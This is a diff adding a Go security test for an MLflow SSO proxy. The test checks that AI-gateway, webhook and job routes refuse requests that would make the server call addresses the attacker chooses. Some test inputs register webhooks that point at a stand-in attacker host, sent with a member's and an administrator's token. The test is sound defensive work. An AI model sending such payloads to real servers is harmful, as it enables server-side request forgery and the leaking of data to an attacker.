@@ -1,0 +1,90 @@
+package security
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"strings"
+	"time"
+
+	"github.com/mlflow-sso/mlflow-sso/internal/check/login"
+)
+
+// outgoing are attacks that let the server call addresses of the attacker's choice.
+func (c *suite) outgoing() []attack {
+	return []attack{{
+		name: "outgoing-calls", tries: "a member makes secrets, model definitions and endpoints of the AI gateway, calls it and asks for its list of models; a member and an administrator make webhooks; a member starts jobs",
+		control: "each of these routes is one of the running server's, and a search with the same token gets 200", defence: "gateway, webhooks and jobs are off unless a setting turns them on",
+		next: "look at MLFLOW_ENABLE_AI_GATEWAY and its like in the environment of {mlflow}", run: c.outgoingCalls,
+	}}
+}
+
+// answersWithin is how long a refusal may take: what calls out takes longer.
+const answersWithin = 10 * time.Second
+
+func (c *suite) outgoingCalls(ctx context.Context) (string, error) {
+	all, err := c.readCatalogue(ctx)
+	if err != nil {
+		return "", login.NotRun(err)
+	}
+	if err := c.expectTaken(ctx, c.thiefToken, "the member's token"); err != nil {
+		return "", err
+	}
+	admin, err := c.visit.Token(ctx, c.admin)
+	if err != nil {
+		return "", login.NotRun(err)
+	}
+	webhook := map[string]any{
+		"name": c.newName(), "url": "https://" + evil + "/x", "events": []map[string]string{{"entity": "REGISTERED_MODEL", "action": "CREATED"}}, "secret": "x",
+	}
+	const gateway = "/api/3.0/mlflow/gateway/"
+	tries := []struct {
+		token, route, method, path string
+		body                       any
+	}{
+		{c.thiefToken, "/ajax-api/3.0/mlflow/gateway/supported-models", http.MethodGet, "/ajax-api/3.0/mlflow/gateway/supported-models", nil},
+		{c.thiefToken, gateway + "secrets/create", http.MethodPost, gateway + "secrets/create", map[string]any{
+			"secret_name": c.newName(), "provider": "openai", "secret_value": map[string]string{"api_key": "x"},
+		}},
+		{c.thiefToken, gateway + "model-definitions/create", http.MethodPost, gateway + "model-definitions/create", map[string]any{
+			"name": c.newName(), "secret_id": nothingHasIt, "provider": "openai", "model_name": "x",
+		}},
+		{c.thiefToken, gateway + "endpoints/create", http.MethodPost, gateway + "endpoints/create", map[string]any{"name": c.newName()}},
+		{c.thiefToken, gateway + "endpoints/list", http.MethodGet, gateway + "endpoints/list", nil},
+		{c.thiefToken, "/gateway/{endpoint_name}/mlflow/invocations", http.MethodPost, "/gateway/" + nothingHasIt + "/mlflow/invocations", map[string]any{"messages": []any{}}},
+		{c.thiefToken, "/api/2.0/mlflow/webhooks", http.MethodPost, "/api/2.0/mlflow/webhooks", webhook},
+		{admin, "/api/2.0/mlflow/webhooks", http.MethodPost, "/api/2.0/mlflow/webhooks", webhook},
+		{admin, "/oidc/webhook", http.MethodPost, "/oidc/webhook", map[string]any{"name": c.newName(), "url": "https://" + evil + "/x", "events": []string{"registered_model.created"}}},
+		{c.thiefToken, "/api/3.0/mlflow/prompt-optimization/jobs", http.MethodPost, "/api/3.0/mlflow/prompt-optimization/jobs", map[string]any{"experiment_id": "0"}},
+	}
+	for _, t := range tries {
+		known := false
+		for _, e := range all.Routes {
+			known = known || e.Method == t.method && e.Path == t.route
+		}
+		if !known {
+			return "", login.NotRun(fmt.Errorf("the server has no %s %s", t.method, t.route))
+		}
+		within, stop := context.WithTimeout(ctx, answersWithin)
+		got, err := c.as(within, t.token, t.method, t.path, t.body)
+		slow := within.Err() != nil && ctx.Err() == nil
+		stop()
+		switch {
+		case slow:
+			return "", login.Mismatch(fmt.Sprintf("no answer within %s to %s %s", answersWithin, t.method, t.path), "a refusal at once")
+		case err != nil:
+			return "", err
+		case t.token == admin && got.status/100 == 2:
+			return "", login.Mismatch(fmt.Sprintf("%d for an administrator's %s %s: the server calls out", got.status, t.method, t.path), "a refusal")
+		case !switchedOff(got):
+			return "", login.Mismatch(fmt.Sprintf("%d for %s %s", got.status, t.method, t.path), "a refusal that says that it is switched off")
+		}
+	}
+	return fmt.Sprintf("%d requests that would let the server call out are refused", len(tries)), nil
+}
+
+// switchedOff says that an answer refuses the feature and not the request: what says
+// that something is missing or badly written is on.
+func switchedOff(got response) bool {
+	return got.status == http.StatusForbidden || got.status == http.StatusNotImplemented || got.status == http.StatusNotFound && !strings.Contains(got.body, "RESOURCE_DOES_NOT_EXIST")
+}
